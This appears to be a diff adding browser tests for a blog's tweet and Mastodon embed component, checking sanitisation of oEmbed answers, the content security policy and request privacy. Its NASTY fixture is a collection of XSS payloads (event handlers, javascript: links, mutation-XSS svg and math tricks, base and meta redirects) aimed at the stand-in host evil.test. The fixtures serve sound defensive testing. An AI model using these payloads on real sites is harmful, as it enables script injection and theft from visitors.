@@ -1,0 +1,311 @@
+import { expect } from 'vitest';
+import { BLOG, blogPage, diaryOf, openBlog } from '../support/blog.ts';
+import { eachEngine } from '../support/each-engine.ts';
+import { text } from '../support/responders.ts';
+import type { Handler } from '../support/web.ts';
+
+const POST = '1324621428235268096';
+const CALL = `<p>{{< tweet user="chezou" id="${POST}" >}}</p>`;
+const TOOT =
+  '<web-embed provider="mastodon" src="https://mastodon.social/@Gargron/100254678717223630"></web-embed>';
+const tag = (oembed: string, more = '') =>
+  `<script src="/dist/loader.js" data-oembed="${oembed}" ${more}></script>`;
+
+const STRICT = 'data-privacy="strict"';
+const CSP =
+  "default-src 'none'; script-src 'self'; style-src 'self'; connect-src 'self'; img-src 'self'; require-trusted-types-for 'script'; trusted-types lit-html dompurify";
+
+// As X answers: https://docs.x.com/x-for-websites/timelines/guides/oembed-api
+const ANSWER = {
+  version: '1.0',
+  type: 'rich',
+  provider_name: 'X',
+  author_name: 'Aki Ariga',
+  author_url: 'https://x.com/chezou',
+  html: '<blockquote class="twitter-tweet"><p lang="en" dir="ltr">Good evening, see <a href="https://t.co/x">this</a></p></blockquote><script async src="https://platform.twitter.com/widgets.js"></script>',
+};
+
+// What nobody may get into a page by an answer; each tells on itself by a request or by what it leaves behind.
+const NASTY = `
+  <p id="words" class="evil" style="position:fixed" data-x="1" onclick="evil()">Kept words</p>
+  <script>window.evil = 1; fetch('https://evil.test/script')</script>
+  <script src="https://evil.test/s.js"></script>
+  <img src="x" onerror="window.evil = 2"><img src="//evil.test/i" srcset="https://evil.test/set 2x" onload="window.evil = 3" alt="A picture">
+  <img src="javascript:window.evil=4"><img src="data:image/svg+xml,<svg onload='window.evil=5'>"><img src="//[">
+  <a href="javascript:window.evil=6">script link</a><a href=" jAvascript:window.evil=6">script link</a><a href="data:text/html,x">data link</a>
+  <a href="/relative">relative link</a><a href="//evil.test/">link without scheme</a><a href="https://good.example/" target="_blank" rel="opener" ping="https://evil.test/ping" download>good link</a>
+  <iframe srcdoc="<script>parent.evil=7</script>"></iframe><iframe src="https://evil.test/frame"></iframe>
+  <object data="https://evil.test/object"></object><embed src="https://evil.test/embed">
+  <svg><style><img src="</style><img src=x onerror=window.evil=8>"></style></svg><svg onload="window.evil=9"><a xlink:href="javascript:evil()"><text>x</text></a></svg>
+  <math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.evil=10&gt;"></table></mtext></math>
+  <form action="https://evil.test/form"><input name="q" autofocus onfocus="window.evil=11"><button formaction="javascript:evil()">Send</button></form>
+  <style>@import 'https://evil.test/style'; * { display: none }</style><link rel="stylesheet" href="https://evil.test/link">
+  <base href="https://evil.test/"><meta http-equiv="refresh" content="0;url=https://evil.test/meta">
+  <video src="https://evil.test/video" autoplay poster="https://evil.test/poster"></video><audio src="https://evil.test/audio"></audio>
+  <picture><source srcset="https://evil.test/source"></picture><table background="https://evil.test/background"><tr><td>cell</td></tr></table>
+  <yt-embed src="nNFCc3nowfg"></yt-embed><x-evil onclick="evil()">custom</x-evil><template><img src="https://evil.test/template"></template>
+  <details open ontoggle="window.evil=12">details</details><marquee onstart="window.evil=13">marquee</marquee>`;
+
+const json = (answer: unknown, options = {}) =>
+  text(JSON.stringify(answer), { type: 'application/json', ...options });
+
+type Root = {
+  words: string | undefined;
+  html: string;
+  button: boolean;
+  frame: boolean;
+  state: string | null;
+};
+
+const cardOf = (selector: string): Root | false => {
+  const element = document.querySelector(selector);
+  const words = element?.shadowRoot?.querySelector<HTMLElement>('[part~=words] div');
+  if (!element?.shadowRoot?.querySelector('[part~=card]')) return false;
+  return {
+    words: words?.innerText.replace(/\s+/g, ' ').trim(),
+    html: words?.innerHTML ?? '',
+    button: !!element.shadowRoot.querySelector('button'),
+    frame: !!element.shadowRoot.querySelector('iframe'),
+    state: element.getAttribute('state'),
+  };
+};
+
+const saidBy = (selector: string) =>
+  !!document.querySelector(selector)?.shadowRoot?.querySelector('[part~=words] div');
+
+eachEngine((_engine, test) => {
+  test('a post says what the owner’s endpoint says of it, and its frame comes for who asks', async ({
+    web,
+    page,
+  }) => {
+    const asked: string[] = [];
+    const oembed: Handler = (request, response) => {
+      asked.push(request.url.search);
+      return json(ANSWER)(request, response);
+    };
+    openBlog(web, { '/': blogPage(CALL + CALL, tag('/oembed?key=1')), '/oembed': oembed });
+    const reader = await page();
+    await reader.goto(BLOG);
+    await reader.until(saidBy, 'p ~ tweet-embed, tweet-embed');
+    const card = await reader.evaluate(cardOf, 'tweet-embed');
+    expect(card).toMatchObject({
+      words: 'Aki Ariga · X Good evening, see this',
+      button: true,
+      frame: false,
+      state: 'card',
+    });
+    const rel = 'rel="noopener noreferrer nofollow ugc"';
+    expect(card ? card.html : '').toBe(
+      `<p part="author"><a href="https://x.com/chezou" ${rel}>Aki Ariga</a> · X</p><blockquote><p lang="en" dir="ltr">Good evening, see <a href="https://t.co/x" ${rel}>this</a></p></blockquote>`,
+    );
+    await reader.evaluate(() => new Promise(resolve => setTimeout(resolve, 500)));
+    expect(web.hosts()).toEqual(['blog.example']);
+    // Two elements of one post ask once.
+    const link = `https://x.com/chezou/status/${POST}`;
+    expect(asked).toEqual([`?key=1&url=${encodeURIComponent(link)}&format=json`]);
+    await reader.click(['tweet-embed', 'button']);
+    await reader.until(() => document.querySelector('tweet-embed[state=ready]'));
+    expect(await reader.evaluate(() => document.querySelectorAll('tweet-embed[state=card]').length)).toBe(1);
+    expect((await diaryOf(reader)).errors).toEqual([]);
+  });
+
+  for (const [page_, headers, more] of [
+    ['an open page', {}, ''],
+    ['a strict page with a strict policy', { 'content-security-policy': CSP }, STRICT],
+  ] as const) {
+    test(`nothing of a nasty answer runs or asks anybody, on ${page_}`, async ({ web, page }) => {
+      const author = { author_name: '<b onclick=evil()>Eve</b>', author_url: 'javascript:evil()' };
+      openBlog(
+        web,
+        {
+          '/': blogPage(`${CALL}<p>The end.</p>`, tag('/oembed', more)),
+          '/oembed': json({
+            ...author,
+            provider_name: { toString: 1 },
+            html: NASTY.replace('//evil.test/i', 'http://evil.test/i'),
+          }),
+        },
+        headers,
+      );
+      web.host('evil.test', text('window.evil = 20'));
+      const reader = await page();
+      await reader.goto(BLOG);
+      await reader.until(saidBy, 'tweet-embed');
+      await reader.evaluate(() => new Promise(resolve => setTimeout(resolve, 700)));
+      const card = await reader.evaluate(cardOf, 'tweet-embed');
+      const { words = '', html = '' } = card || {};
+      expect(words).toMatch(/^<b onclick=evil\(\)>Eve<\/b> Kept words/);
+      expect(html).toContain('&lt;b onclick=evil()&gt;Eve');
+      const inside = await reader.evaluate(() => {
+        const root = document.querySelector('tweet-embed')?.shadowRoot?.querySelector('[part~=words] div');
+        const all = [...(root?.querySelectorAll('*') ?? [])];
+        return {
+          tags: [...new Set(all.map(({ localName }) => localName))].sort(),
+          names: [...new Set(all.flatMap(element => element.getAttributeNames()))].sort(),
+          links: all.filter(({ localName }) => localName === 'a').map(a => a.getAttribute('href')),
+        };
+      });
+      expect(inside.tags.filter(tag => !/^(?:p|b|a|img)$/.test(tag))).toEqual([]);
+      expect(
+        inside.names.filter(name => !/^(?:part|href|rel|target|src|alt|loading|referrerpolicy)$/.test(name)),
+      ).toEqual([]);
+      expect(inside.links.filter(Boolean)).toEqual(['https://good.example/']);
+      expect(await reader.evaluate(() => (window as { evil?: number }).evil ?? 0)).toBe(0);
+      expect(web.hosts()).toEqual(['blog.example']);
+      const { violations, errors } = await diaryOf(reader);
+      // A document that is only parsed complains of what stands in it and would not run anyway.
+      expect(violations.filter(violation => !violation.endsWith(' inline'))).toEqual([]);
+      expect(errors).toEqual([]);
+      expect(await reader.evaluate(() => location.href)).toBe(BLOG);
+    });
+  }
+
+  test('pictures of a post come from the page’s own host, and from others where services may be asked', async ({
+    web,
+    page,
+  }) => {
+    const html =
+      '<p>Seen</p><img src="/own.png" alt="own"><img src="https://pictures.example/p.png" alt="theirs">';
+    const pages = {
+      '/': blogPage(CALL, tag('/oembed')),
+      '/strict': blogPage(CALL, tag('/oembed', STRICT)),
+      '/oembed': json({ html }),
+      '/own.png': text('', { type: 'image/png' }),
+    };
+    openBlog(web, pages);
+    web.host('pictures.example', text('', { type: 'image/png' }));
+    const reader = await page();
+    await reader.goto(`${BLOG}strict`);
+    await reader.until(saidBy, 'tweet-embed');
+    await expect.poll(() => web.log.map(({ path }) => path), { timeout: 10_000 }).toContain('/own.png');
+    await reader.evaluate(() => new Promise(resolve => setTimeout(resolve, 300)));
+    expect(web.hosts()).toEqual(['blog.example']);
+    expect(await reader.evaluate(cardOf, 'tweet-embed')).toMatchObject({ words: 'Seen theirs' });
+    await reader.goto(BLOG);
+    const theirs = () => web.log.find(({ host }) => host === 'pictures.example');
+    await expect.poll(theirs, { timeout: 10_000 }).toMatchObject({ path: '/p.png', referrer: '' });
+  });
+
+  test('a file a post, where the address is a pattern', async ({ web, page }) => {
+    const paths = [
+      `/posts/twitter/${POST}.json`,
+      '/posts/mastodon/mastodon.social/%40Gargron/100254678717223630.json',
+    ];
+    openBlog(web, {
+      '/': blogPage(CALL + TOOT, tag('/posts/{provider}/{id}.json', STRICT)),
+      [paths[0] ?? '']: json({ html: '<p>One</p>' }),
+      [paths[1] ?? '']: json({ html: '<p>Two</p>' }),
+    });
+    const reader = await page();
+    await reader.goto(BLOG);
+    await reader.until(saidBy, 'tweet-embed');
+    await reader.until(saidBy, 'web-embed');
+    expect(await reader.evaluate(cardOf, 'web-embed')).toMatchObject({ words: 'Two', frame: false });
+    expect(web.log.map(({ path }) => path)).toEqual(expect.arrayContaining(paths));
+    expect(web.hosts()).toEqual(['blog.example']);
+  });
+
+  test('a card grows with its text, and a short text leaves it as it was', async ({ web, page }) => {
+    const answer: Handler = ({ url, ...request }, response) =>
+      json({
+        html: `<p>${'A long text. '.repeat(/2$/.test(url.searchParams.get('url') ?? '') ? 400 : 1)}</p>`,
+      })({ url, ...request }, response);
+    openBlog(web, {
+      '/': blogPage(
+        '<tweet-embed src="201"></tweet-embed><tweet-embed src="202"></tweet-embed>',
+        tag('/oembed'),
+      ),
+      '/oembed': answer,
+    });
+    const reader = await page();
+    await reader.goto(BLOG);
+    await reader.until(saidBy, '[src="201"]');
+    await reader.until(saidBy, '[src="202"]');
+    const heights = () =>
+      [...document.querySelectorAll('tweet-embed')].map(element => {
+        const words = element.shadowRoot?.querySelector('[part~=words]');
+        return [element.clientHeight, (words?.scrollHeight ?? 0) - (words?.clientHeight ?? 0)];
+      });
+    const [[short, cutShort], [long = 0, cutLong]] = (await reader.evaluate(heights)) as [number[], number[]];
+    expect([short, cutShort, cutLong]).toEqual([300, 0, 0]);
+    expect(long).toBeGreaterThan(1000);
+  });
+
+  const endless: Handler = async (_request, response) => {
+    response.writeHead(200, { 'content-type': 'application/json' });
+    const more = () => {
+      while (!response.destroyed && response.write(' '.repeat(65_536)));
+    };
+    response.on('drain', more);
+    more();
+  };
+
+  for (const [what, oembed, handler, why] of [
+    ['is not there', '/oembed', text('no', { status: 404 }), /status 404/],
+    ['says nothing that is JSON', '/oembed', text('<p>Hello</p>'), /JSON/],
+    ['says nothing of HTML', '/oembed', json({ type: 'link', html: 5 }), /no html/],
+    [
+      'says nothing that may be shown',
+      '/oembed',
+      json({ html: '<iframe src="https://a.test/"></iframe>' }),
+      /no text/,
+    ],
+    ['never ends', '/oembed', endless, /more than/],
+    ['never answers', '/oembed', () => new Promise<void>(() => {}), /./],
+    ['is elsewhere and lets nobody read it', 'https://other.example/oembed', text('{}'), /./],
+    ['is no address that a page may ask', 'http://other.example/oembed', text('{}'), /no address/],
+    ['is a script', 'javascript:window.evil=1', text('{}'), /no address/],
+  ] as const) {
+    test(`where the endpoint ${what}, all is as if there were none, and the console says so once`, async ({
+      web,
+      page,
+    }) => {
+      openBlog(web, {
+        '/': blogPage(
+          '<tweet-embed src="201"></tweet-embed><tweet-embed src="202"></tweet-embed>',
+          tag(oembed),
+        ),
+        '/oembed': handler as Handler,
+      });
+      web.host('other.example', handler as Handler);
+      const reader = await page();
+      await reader.goto(BLOG);
+      await reader.untilWithin(
+        20_000,
+        () => document.querySelectorAll('tweet-embed[state=ready]').length === 2,
+      );
+      const { warnings, errors } = await diaryOf(reader);
+      expect(warnings).toEqual([expect.stringMatching(/^\[shortcode-embeds\] no-static-post /)]);
+      expect(warnings[0]).toMatch(why);
+      expect(errors).toEqual([]);
+    });
+  }
+
+  test('without the option nobody is asked, and nothing is fetched for it', async ({ web, page }) => {
+    openBlog(web, { '/': blogPage(CALL) });
+    const reader = await page();
+    await reader.goto(BLOG);
+    await reader.until(() => document.querySelector('tweet-embed[state=ready]'));
+    const paths = web.log.filter(({ host }) => host === 'blog.example').map(({ path }) => path);
+    expect(paths.filter(path => /own-site|static|html\.js|oembed/.test(path))).toEqual([]);
+  });
+
+  test('another post in the same element says something else, or nothing', async ({ web, page }) => {
+    openBlog(web, {
+      '/': blogPage('<tweet-embed src="201"></tweet-embed>', tag('/posts/{id}.json', STRICT)),
+      '/posts/201.json': json({ html: '<p>One</p>' }),
+      '/posts/202.json': json({ html: '<p>Two</p>' }),
+    });
+    const reader = await page();
+    await reader.goto(BLOG);
+    const words = () => reader.evaluate(cardOf, 'tweet-embed');
+    const become = async (src: string) =>
+      reader.evaluate(src => document.querySelector('tweet-embed')?.setAttribute('src', src), src);
+    await expect.poll(words, { timeout: 10_000 }).toMatchObject({ words: 'One' });
+    await become('202');
+    await expect.poll(words, { timeout: 10_000 }).toMatchObject({ words: 'Two' });
+    await become('203');
+    await expect.poll(words, { timeout: 10_000 }).toMatchObject({ html: '' });
+    expect(web.hosts()).toEqual(['blog.example']);
+  });
+});
